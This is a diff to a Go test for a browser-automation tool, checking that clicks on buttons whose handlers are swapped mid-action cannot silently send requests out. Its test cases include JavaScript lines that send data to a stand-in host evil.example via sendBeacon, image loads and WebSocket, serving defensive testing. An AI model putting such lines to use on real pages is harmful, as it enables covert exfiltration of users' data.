@@ -525,11 +525,13 @@ func TestHandlersThatAreSwapped(t *testing.T) {
 		{`navigator.sendBeacon("http://evil.example:PORT/hit", "d")`, false},
 		{`fetch("/hit", {method: "POST", body: "d"})`, false},
 		{`new Image().src = "http://evil.example:PORT/hit"`, false},
-		{`new WebSocket("ws://site.example:PORT/hit")`, false},
+		{`new WebSocket("ws://site.example:PORT/hit").onerror = () => { document.body.dataset.refused = 1 }`, false},
 	} {
 		asked.Store(0)
+		hit := fmt.Sprintf("/hit/%d", i)
+		js := strings.ReplaceAll(way.js, "/hit", hit)
 		s.page(fmt.Sprintf("/way/%d", i), `<!doctype html><title>none</title><button>Add</button><script>const b = document.querySelector("button"); b.onclick = () => { document.title = "added" };
-const ask = setInterval(async () => { if (document.title === "none" && await (await fetch("/word")).text()) { clearInterval(ask); b.onclick = () => { document.title = "other"; `+way.js+` }; document.title = "swapped" } }, 20)</script>`)
+const ask = setInterval(async () => { if (document.title === "none" && await (await fetch("/word")).text()) { clearInterval(ask); b.onclick = () => { document.title = "other"; `+js+` }; document.title = "swapped" } }, 20)</script>`)
 		step := act.Step{Do: act.DoClick, Ref: s.ref(s.goTo(s.url("site", fmt.Sprintf("/way/%d", i))), `button "Add"`)}
 		p, err := s.seat.Prepare(s.ctx(), "", step)
 		if err != nil {
@@ -545,7 +547,14 @@ const ask = setInterval(async () => { if (document.title === "none" && await (aw
 		}
 		if way.document {
 			s.wait(func() bool { return asked.Load() > 0 })
-		} else { // what it has sent by now comes before this
+		} else { // what was refused was sent, and what it has sent by now comes before this
+			s.wait(func() bool {
+				if strings.Contains(way.js, "WebSocket") { // which are no requests of the network look
+					return s.eval("document.body.dataset.refused") == `"1"`
+				}
+				l := s.look(act.LookRequest{At: act.AtNetwork, Find: hit})
+				return strings.Contains(l, " failed ") || strings.Contains(l, " 403")
+			})
 			s.must(act.Step{Do: act.DoWait, MS: 300})
 		}
 	}
